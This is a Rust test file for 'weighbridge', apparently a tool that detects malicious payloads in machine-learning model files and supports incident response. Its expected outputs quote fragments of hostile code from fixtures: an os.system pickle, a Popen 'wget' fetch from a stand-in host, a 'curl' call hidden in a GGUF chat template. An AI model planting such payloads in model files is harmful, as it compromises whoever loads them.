//! What each verb prints.

use crate::{case, harmless, malicious, weighbridge};
use serde_json::Value;
use wb_testkit::{Run, Scratch, oracle};

#[test]
fn show_prints_a_finding_with_its_bytes() {
    let ended = weighbridge(&["show", "F1", &case("quiet-update")]).end();
    ended.code(0).prints("runs a shell command through `os.system`");
    ended.prints("> 00000050 65 29 22 85 52 2e");
    weighbridge(&["show", "f1", &case("quiet-update")]).end().code(0);
    // The bytes of a member, two containers deep.
    let ended = weighbridge(&["show", "F1", &case("night-shift")]).end();
    ended.code(0).prints("models.zip!/in-service/scorer.bin").prints("OSPREY.R");
}

/// First words of the lines of the table under `title` in `weighbridge explain`.
fn explained(list: &str, title: &str) -> Vec<String> {
    let lines = list.lines().skip_while(|line| !line.starts_with(title)).skip(1);
    let rows = lines.take_while(|line| !line.trim().is_empty());
    let names = rows.filter(|row| !row.starts_with([' ', '\u{2500}']));
    names.filter_map(|row| row.split("  ").next().map(str::to_owned)).collect()
}

#[test]
fn explain_has_a_page_for_everything_it_lists() {
    let list = weighbridge(&["explain"]).end().code(0).out.clone();
    for (title, least) in
        [("rule ", 30), ("judgement of a case ", 10), ("format ", 20), ("log source ", 10)]
    {
        let names = explained(&list, title);
        assert!(names.len() >= least, "{title}: {names:?}");
        for name in names {
            let ended = weighbridge(&["explain", &name]).end();
            let page = &ended.code(0).quiet().out;
            assert!(page.starts_with("# ") && page.lines().count() > 5, "{name}: {page}");
            let prose = page.split("```").step_by(2).flat_map(str::lines);
            let too_long =
                prose.filter(|line| !line.starts_with('|') && line.chars().count() > 100);
            assert_eq!(too_long.collect::<Vec<&str>>(), Vec::<&str>::new(), "{name}");
        }
    }
}

#[test]
fn explain_knows_callables() {
    weighbridge(&["explain", "os.system"]).end().code(0).prints("hands its argument to a shell");
    weighbridge(&["explain", "subprocess.Popen"]).end().code(0).prints("# subprocess.Popen");
    let gadget = "torch.utils.bottleneck.__main__.run_cprofile";
    weighbridge(&["explain", gadget])
        .end()
        .code(0)
        .prints("hands what it is given to `builtins.exec`");
}

#[test]
fn decompile_prints_python() {
    let models = Scratch::new().with("bad.pkl", malicious()).with("good.pkl", harmless());
    weighbridge(&["decompile", &models.path("bad.pkl")])
        .end()
        .code(0)
        .prints("from os import system")
        .prints("system('echo hello')");
    weighbridge(&["decompile", &models.path("good.pkl")])
        .end()
        .code(0)
        .prints("plain data: it calls nothing");
    weighbridge(&["decompile", "--exact", &models.path("good.pkl")])
        .end()
        .code(0)
        .prints("{'bias': 0.5}");
    // Marshalled bytecode as the source it was compiled from.
    let nested = format!("{}/collected/models.zip", case("night-shift"));
    weighbridge(&["decompile", &nested])
        .end()
        .code(0)
        .prints("`warm_start` (runs at inference)")
        .prints("__import__('subprocess').Popen('wget -q http://stage.weights-mirror.example");
    let template = format!("{}/staging/assistant-next.gguf", case("staged-template"));
    weighbridge(&["decompile", &template]).end().code(0).prints("['os'].popen('curl -s");
}

#[test]
fn disassemble_agrees_with_pickletools() {
    let models = Scratch::new().with("bad.pkl", malicious()).with("good.pkl", harmless());
    for file in [
        models.path("bad.pkl"),
        models.path("good.pkl"),
        format!("{}/models/serving_model.pkl", case("quiet-update")),
        format!("{}/models/original_model.pkl", case("quiet-update")),
    ] {
        let ended = weighbridge(&["disassemble", &file]).end();
        let theirs = Run::of(oracle::python()).args(["-m", "pickletools", &file]).end();
        assert_eq!(ended.code(0).out, theirs.code(0).out, "{file}");
    }
    let ended = weighbridge(&["disassemble", "--trace", &models.path("bad.pkl")]).end();
    ended.code(0).prints("REDUCE");
    let nested = format!("{}/collected/models.zip", case("night-shift"));
    let ended = weighbridge(&["disassemble", &nested]).end();
    ended.code(0).prints("# models.zip!/in-service/scorer.bin").prints("GLOBAL '__builtin__ exec'");
}

#[test]
fn inspect_lists_layers_tensors_and_metadata() {
    let keras = format!("{}/models/replacement_model.keras", case("quiet-update"));
    weighbridge(&["inspect", &keras])
        .end()
        .code(0)
        .prints("COMPONENTS (4)")
        .prints("layer calibrate keras.layers.Lambda")
        .prints("metadata.keras_version 3.5.0");
    let tensors = format!("{}/models/original_model.safetensors", case("quiet-update"));
    weighbridge(&["inspect", &tensors]).end().code(0).prints("head.weight F32 [3, 64]");
    let ended = weighbridge(&["inspect", &tensors, "--format", "json"]).end();
    let parsed: Value = serde_json::from_str(&ended.code(0).out).expect("valid JSON");
    assert_eq!(parsed[0]["format"], "safetensors");
    assert_eq!(parsed[0]["tensors"][1]["shape"], serde_json::json!([3, 64]));
    let log = format!("{}/logs/egress.log", case("quiet-update"));
    weighbridge(&["inspect", &log]).end().code(3).complains("hint: `weighbridge timeline`");
}

#[test]
fn licences_are_listed_and_refused_by_name_or_by_what_they_restrict() {
    let models = Scratch::new()
        .with("own/config.json", "{\"license\": \"apache-2.0\"}\n")
        .with("own/model.pkl", harmless())
        .with("bound/README.md", "---\nlicense: llama3.1\n---\n# A model\n")
        .with("bound/model.pkl", harmless());
    let card = models.path("bound/README.md");
    let shown = weighbridge(&["inspect", &card]).end();
    shown.code(0).prints("licence llama3.1 (license), restricted: uses that the policy of Meta");
    let ended = weighbridge(&["inspect", &card, "--format", "json"]).end();
    let parsed: Value = serde_json::from_str(&ended.code(0).out).expect("valid JSON");
    assert_eq!(parsed[0]["licences"][0]["standing"], "restricted");
    let gate = |folder: &str, refused: &str| {
        weighbridge(&["gate", &models.path(folder), "--refuse-licence", refused]).end()
    };
    gate("bound", "restricted").code(1).prints("its licence is `llama3.1` (README.md: license)");
    gate("bound", "Llama3.1").code(1);
    gate("bound", "unknown").code(0);
    gate("own", "restricted").code(0);
    gate("own", "apache-2.0").code(1).prints("its licence is `Apache-2.0`");
}

#[test]
fn diff_says_what_changed() {
    let folder = case("staged-template");
    let (new, old) =
        (format!("{folder}/staging/assistant-next.gguf"), format!("{folder}/live/assistant.gguf"));
    weighbridge(&["diff", &new, &old])
        .end()
        .code(1)
        .prints("~ changed field general.name `helpdesk-8b-v2` instead of `helpdesk-8b`")
        .prints("~ changed field tokenizer.chat_template");
}

#[test]
fn timeline_puts_logs_on_one_clock() {
    let folder = case("quiet-update");
    let ended = weighbridge(&["timeline", &folder]).end();
    let times: Vec<&str> = ended.code(0).out.lines().filter_map(|line| line.get(..19)).collect();
    let times: Vec<&&str> = times.iter().filter(|time| time.starts_with("20")).collect();
    assert!(times.len() > 15 && times.is_sorted(), "{ended}");
}

#[test]
fn timeline_filters() {
    let folder = case("quiet-update");
    let lines = |arguments: &[&str]| {
        let ended = weighbridge(&[&["timeline", &folder], arguments].concat()).end();
        ended.code(0).out.lines().filter(|line| line.starts_with("20")).count()
    };
    let all = lines(&[]);
    assert!(lines(&["--kind", "load"]) == 2);
    assert!(lines(&["--kind", "load,deploy"]) == 4);
    assert!((1..all).contains(&lines(&["--contains", "model-pulse.example"])));
    assert!(lines(&["--contains", "no record has this text"]) == 0);
    let (from, to) = ("2026-04-27T16:20:31Z", "2026-04-27T16:20:37Z");
    assert!(lines(&["--from", from, "--to", to]) == 5);
    assert!(lines(&["--from", from]) + lines(&["--to", from]) == all + 1);
}

#[test]
fn scan_prints_in_three_formats() {
    let folder = case("quiet-update");
    let parse = |format: &str| -> Value {
        let ended = weighbridge(&["scan", &folder, "--format", format]).end();
        serde_json::from_str(&ended.code(1).quiet().out).expect("valid JSON")
    };
    assert_eq!(parse("json")["schema"], "weighbridge.scan/1");
    assert_eq!(parse("sarif")["version"], "2.1.0");
    let ended = weighbridge(&["scan", &folder]).end();
    ended.never_says("original_model.pkl");
    weighbridge(&["scan", &folder, "--verbose"]).end().prints("CLEAN models/original_model.pkl");
    let hashed = parse("json")["artifacts"][0]["sha256"].is_string();
    let ended = weighbridge(&["scan", &folder, "--format", "json", "--no-hash"]).end();
    let unhashed: Value = serde_json::from_str(&ended.out).expect("valid JSON");
    assert!(hashed && unhashed["artifacts"][3]["sha256"].is_null(), "{}", ended.out);
}

#[test]
fn schemas_and_completions_are_printed() {
    for (document, title) in [("case", "weighbridge case"), ("scan", "weighbridge scan")] {
        let ended = weighbridge(&["schema", document]).end();
        let schema: Value = serde_json::from_str(&ended.code(0).out).expect("valid JSON");
        assert_eq!(schema["title"], title);
    }
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        weighbridge(&["completions", shell]).end().code(0).prints("investigate");
    }
    let script = weighbridge(&["completions", "bash"]).end().out;
    if Run::of("bash").args(["-c", "true"]).succeeds() {
        Run::of("bash").args(["-n"]).input(script).end().code(0).quiet();
    }
}

#[test]
fn investigate_exports_a_case_for_every_receiver() {
    let scratch = Scratch::new();
    let folder = scratch.path("out/of/the/case");
    let evidence = case("quiet-update");
    let ended = weighbridge(&["investigate", &evidence, "--brief", "--export", &folder]).end();
    ended.code(1).complains("stix-bundle.json").complains("quarantine.sh");
    for file in ["report.html", "ticket.md", "case.json", "misp-event.json", "contain.nft"] {
        let path = std::path::Path::new(&folder).join(file);
        assert!(path.is_file(), "{file}");
    }
    // One of them alone goes to standard output.
    let stix = weighbridge(&["investigate", &evidence, "--format", "stix"]).end();
    let written = std::fs::read_to_string(format!("{folder}/stix-bundle.json"));
    assert!(stix.code(1).out == written.expect("it is written"));
    weighbridge(&["investigate", &evidence, "--format", "stiks"]).end().complains("'stix'");
    // Reports among the evidence would be evidence the next time.
    let inside = format!("{evidence}/reports");
    let refused = weighbridge(&["investigate", &evidence, "--export", &inside]).end();
    refused.code(2).complains("hint: choose a folder outside");
    assert!(!std::path::Path::new(&inside).exists());
}

#[test]
fn show_knows_findings_events_and_artifacts_of_a_saved_case() {
    let evidence = case("quiet-update");
    let saved = weighbridge(&["investigate", &evidence, "--format", "json"]).end();
    let cases = Scratch::new().with("case.json", saved.out.as_bytes()).with("no.json", "{}");
    let (path, wrong) = (cases.path("case.json"), cases.path("no.json"));
    let show = |what: &str| weighbridge(&["show", what, &path]).end();
    show("F1").code(0).prints("`os.system`").prints("pickle-runs-command");
    show("f1").code(0).prints("model-pulse[.]example");
    show("E1").code(0).prints("record");
    show("rollout.log:10").code(0).prints("DETECTION").prints("OBSERVED");
    show("serving_model.pkl")
        .code(0)
        .prints("MALICIOUS")
        .prints("UNRECORDED")
        .prints("from os import");
    show("nothing").code(2).complains("findings are F1 to F6");
    weighbridge(&["show", "F1", &wrong]).end().code(2).complains("hint: `weighbridge investigate");
    // With the evidence at hand, the bytes as well.
    let ended = weighbridge(&["show", "F1", &path, "--evidence", &evidence]).end();
    ended.code(0).prints("> 00000050 65 29 22 85 52 2e");
}

#[test]
fn the_gate_decides_with_reasons_and_exit_codes() {
    let folder = case("quiet-update");
    let in_case = |path: &str| format!("{folder}/{path}");
    let saved = weighbridge(&["investigate", &folder, "--format", "json"]).end();
    let scratch = Scratch::new()
        .with("case.json", saved.out.as_bytes())
        .with("bad.pkl", malicious())
        .with("good.pkl", harmless())
        .with("notes.txt", "no model");
    let known = scratch.path("case.json");
    let good = scratch.path("good.pkl");
    // By itself: what runs is rejected, what does not is approved.
    weighbridge(&["gate", &scratch.path("bad.pkl")]).end().code(1).prints("REJECT");
    weighbridge(&["gate", &good]).end().code(0).prints("APPROVE").prints("nothing in it would run");
    weighbridge(&["gate", &scratch.path("notes.txt")]).end().code(3).complains("holds no model");
    // The files of an incident do not come back, under whatever name.
    let replaced = in_case("models/replacement_model.keras");
    weighbridge(&["gate", &replaced, "--case", &known]).end().code(1).prints("rejected");
    // The baseline of the incident is on record there; a file nobody vouches for needs a person.
    let original = in_case("models/original_model.safetensors");
    let ended = weighbridge(&["gate", &original, "--case", &known]).end();
    ended.code(0).prints("its digest is recorded in");
    weighbridge(&["gate", &good, "--case", &known]).end().code(4).prints("REVIEW");
    // An approved digest settles that, and nothing else will do.
    let digest = |text: &str| weighbridge(&["gate", &good, "--sha256", text]).end();
    digest(&"0".repeat(64)).code(1).prints("is not the approved one");
    digest("123").code(2).complains("64 hexadecimal digits");
    // Against a baseline.
    let copy = scratch.path("copy.safetensors");
    std::fs::copy(&original, &copy).expect("a file can be copied");
    let ended = weighbridge(&["gate", &copy, "--baseline", &original]).end();
    ended.code(0).prints("it has the structure of the baseline");
    let json = weighbridge(&["gate", &replaced, "--case", &known, "--format", "json"]).end();
    let schema = weighbridge(&["schema", "gate"]).end();
    oracle::validate(&schema.out, &json.code(1).out, None);
    let document: Value = serde_json::from_str(&json.out).expect("JSON");
    assert_eq!(document["decision"], "reject");
}
